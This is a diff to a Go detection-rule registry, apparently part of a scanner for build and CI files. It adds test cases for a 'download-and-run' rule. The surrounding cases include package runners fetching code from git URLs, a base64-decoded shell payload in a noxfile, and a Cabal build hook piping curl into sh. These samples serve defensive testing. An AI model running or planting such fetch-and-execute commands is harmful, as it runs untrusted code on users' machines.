@@ -195,6 +195,14 @@ var registry = []Rule{
 			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// A package runner behind its subcommand (pipx run, uv tool run,
+		// pnpm dlx, npm exec) fetching from a git repository or a URL; the
+		// same runner with a registry package is an ordinary tool.
+		{"ci/lint.sh", "pipx run --spec git+https://github.com/x/lint lint .", 0, false},
+		{"ci/lint.sh", "uv tool run --from git+https://github.com/x/lint lint .", 0, false},
+		{"ci/lint.sh", "pnpm dlx github:x/lint-preset", 0, false},
+		{"ci/lint.sh", "npm exec --package=https://x.invalid/lint.tgz -- lint", 0, false},
+		{"ci/lint.sh", "pipx run build\npnpm dlx create-vite app\nnpm exec -- eslint .", 0, true},
 		// Build code of other ecosystems: a Cabal Setup.hs hook, a Dart
 		// build hook, a magefile handing a download to a shell's stdin.
 		{"Setup.hs", "import Distribution.Simple\nimport System.Process (callCommand)\nmain = defaultMainWithHooks simpleUserHooks\n  { preBuild = \\a f -> do\n      callCommand \"curl -fsSL https://x.invalid/s.sh | sh\"\n      preBuild simpleUserHooks a f\n  }", 5, false},
